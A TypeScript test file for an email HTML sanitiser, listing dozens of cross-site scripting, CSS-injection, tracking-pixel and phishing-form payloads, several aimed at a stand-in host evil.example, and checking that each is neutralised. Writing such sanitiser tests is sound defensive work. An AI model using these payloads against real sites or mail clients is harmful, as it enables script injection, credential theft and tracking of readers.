import { describe, expect, test } from 'vitest'
import { safeHtml } from './safe-html.ts'

const blocked = (html: string) =>
  safeHtml(html, { cid: (id) => (id === 'logo@x' ? '/api/v1/part/1' : null), images: 'blocked' })

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=Evil></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{display:none}</style>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">over</div>',
  '<div style="background:url(https://evil.example/t.gif)">x</div>',
  '<div style="background-color:red;background-image:\\75rl(https://evil.example/t.gif)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml)">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="color:red;/*" x="*/position:fixed">x</div>',
  '<div style="margin-top:-500px">x</div>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.gif 1x" alt="x">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<table background="https://evil.example/t.gif"><tr><td background="https://evil.example/u.gif">x</td></tr></table>',
  '<body background="https://evil.example/t.gif" onload="alert(1)">x</body>',
  '<video src="https://evil.example/v" poster="https://evil.example/p" onerror=alert(1)></video>',
  '<audio src="https://evil.example/a" autoplay></audio>',
  '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
  '<input type=image src="https://evil.example/i" onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="root" class="app" name="x">clobber</p>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example/ping">x</a>',
  '<img src="cid:logo@x" data-remote-src="javascript:alert(1)">',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<font color="red;background:url(https://evil.example)">x</font>',
]

describe('HTML from strangers', () => {
  test.each(attacks)('neither runs, loads nor overlays anything: %s', (html) => {
    const out = blocked(html)
    const markup = out.match(/<[^>]*>/g)?.join('') ?? ''
    expect(markup).not.toMatch(
      /<\/?(script|style|svg|math|iframe|object|embed|applet|base|meta|link|form|input|button)/i,
    )
    expect(markup).not.toMatch(
      /\s(on\w+|srcset|srcdoc|background|poster|ping|action|id|class|name|xlink:href)\s*=/i,
    )
    expect(markup).not.toMatch(/(javascript|vbscript|expression)\s*[:(]/i)
    expect(markup.replace(/data-remote-src="[^"]*"/g, '')).not.toMatch(
      /evil\.example|url\(|position|data:text|svg\+xml/i,
    )
    expect(markup).not.toMatch(/margin[^;"]*-\d|target="_top"/)
  })

  test('what was made safe stays the same when made safe again', () => {
    for (const html of attacks.filter((each) => !each.includes('cid:'))) {
      const once = blocked(html)
      expect(blocked(once).replace(/ data-remote-src="[^"]*"/g, '')).toBe(
        once.replace(/ data-remote-src="[^"]*"/g, ''),
      )
    }
  })

  test('a remote picture waits with its address until it is asked for', () => {
    const html = '<img src="https://shop.example/logo.png" alt="Shop">'
    expect(blocked(html)).toBe('<img alt="Shop" data-remote-src="https://shop.example/logo.png" />')
    expect(safeHtml(html, { cid: () => null, images: 'shown' })).toContain(
      'src="https://shop.example/logo.png"',
    )
  })

  test('a picture of the mail itself is shown from where the caller keeps it', () => {
    expect(blocked('<img src="cid:logo%40x">')).toBe('<img src="/api/v1/part/1" />')
    expect(blocked('<img src="cid:none">')).toBe('<img data-missing="cid" />')
  })

  test('a link opens apart and tells nothing about who follows it', () => {
    expect(blocked('<a href="https://ok.example/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    )
  })

  test('the look of honest text stays', () => {
    expect(blocked('<p style="color: #336699; font-size: 12px; position: absolute">Hi <b>you</b></p>')).toBe(
      '<p style="color: #336699; font-size: 12px">Hi <b>you</b></p>',
    )
    expect(blocked('<span style="color: rgb(1, 2, 3)">x</span>')).toContain('rgb(1, 2, 3)')
  })

  test('nesting a hundred thousand elements deep is laid flat', () => {
    expect(blocked(`soon${'<div>'.repeat(100_000)}deep${'</div>'.repeat(100_000)}`).startsWith('soon')).toBe(
      true,
    )
  })
})
